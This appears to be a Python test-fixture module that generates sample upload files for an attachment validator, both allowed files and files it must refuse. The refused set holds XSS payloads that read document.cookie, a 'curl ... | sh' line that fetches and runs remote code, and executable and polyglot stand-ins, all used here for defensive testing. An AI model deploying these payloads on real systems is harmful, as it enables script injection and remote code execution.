"""Small real files of every kind the attachment tests need, made here rather than shipped."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (48.0, 51.0, 24.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (2.0, 21.0, 7.0),
}
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description photoshop:City="Paris"/></rdf:RDF></x:xmpmeta>'


def image(fmt: str, *, size=(64, 48), gps: bool = False, orientation: int | None = None, mode="RGB") -> bytes:
    """An image in Pillow format `fmt`, optionally carrying GPS EXIF and an orientation."""
    picture = Image.new(mode, size, "red")
    picture.paste("blue", (0, 0, size[0] // 2, size[1]))  # left half blue: orientation shows
    exif = Image.Exif()
    if gps:
        exif[ExifTags.Base.Make] = "PhoneMaker"
        exif[ExifTags.IFD.GPSInfo] = GPS
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    out = io.BytesIO()
    extra = {"exif": exif.tobytes()} if (gps or orientation) and fmt != "GIF" else {}
    if fmt == "JPEG" and gps:
        extra["xmp"] = XMP
    picture.save(out, fmt, **extra)
    return out.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (32, 32), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0, comment=b"Paris")
    return out.getvalue()


PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    b"xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000052 00000 n \n0000000101 00000 n \n"
    b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n170\n%%EOF\n"
)
TEXT = b"2026-12-01 10:00:01 sshd[311]: Failed password for root from 203.0.113.9 port 52113\n" * 3
CSV = b"time,door,badge\n10:00,north,4411\n10:05,south,4412\n10:07,north,4413\n"
EML = (
    b"Return-Path: <billing@examp1e.com>\nFrom: Billing <billing@examp1e.com>\nTo: alice@example.com\n"
    b"Subject: Your invoice is overdue\nDate: Mon, 30 Nov 2026 09:12:00 +0000\nMessage-ID: <1@examp1e.com>\n"
    b"MIME-Version: 1.0\nContent-Type: text/plain\n\nPay now at http://examp1e.com/pay\n"
)


def allowed() -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, the content type IRMS stores them as)."""
    return {
        "photo.jpg": (image("JPEG"), "image/jpeg"),
        "screen.png": (image("PNG"), "image/png"),
        "image.webp": (image("WEBP"), "image/webp"),
        "anim.gif": (animated_gif(), "image/gif"),
        "IMG_0001.HEIC": (image("HEIF"), "image/jpeg"),
        "phish.pdf": (PDF, "application/pdf"),
        "auth.log": (TEXT, "text/plain"),
        "badges.csv": (CSV, "text/csv"),
        "invoice.eml": (EML, "message/rfc822"),
    }


def refused() -> dict[str, bytes]:
    """Files refused whatever their name says: markup, scripts, executables, polyglots."""
    jpeg = image("JPEG")
    return {
        "photo.jpg": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>',
        "image.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "notes.txt": b"Hello <script>alert(1)</script> world",
        "run.pdf": b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n",
        "tool.jpg": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
        "setup.exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,
        "app.gif": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44,
        "archive.zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40,
        # Polyglots: an image header with a page behind it, and an HTML page wearing a JPEG start.
        "gifar.gif": b"GIF89a<html><script>alert(1)</script></html>",
        "half.jpg": jpeg[:40],
        "page.jpg": b"\xff\xd8\xff\xe0<html><body><script>alert(1)</script></body></html>",
        "random.bin": bytes(range(256)) * 4,
    }


def upload(name: str, content: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    """What a client sends; `content_type` is the client's claim, which IRMS ignores."""
    return SimpleUploadedFile(name, content, content_type=content_type)
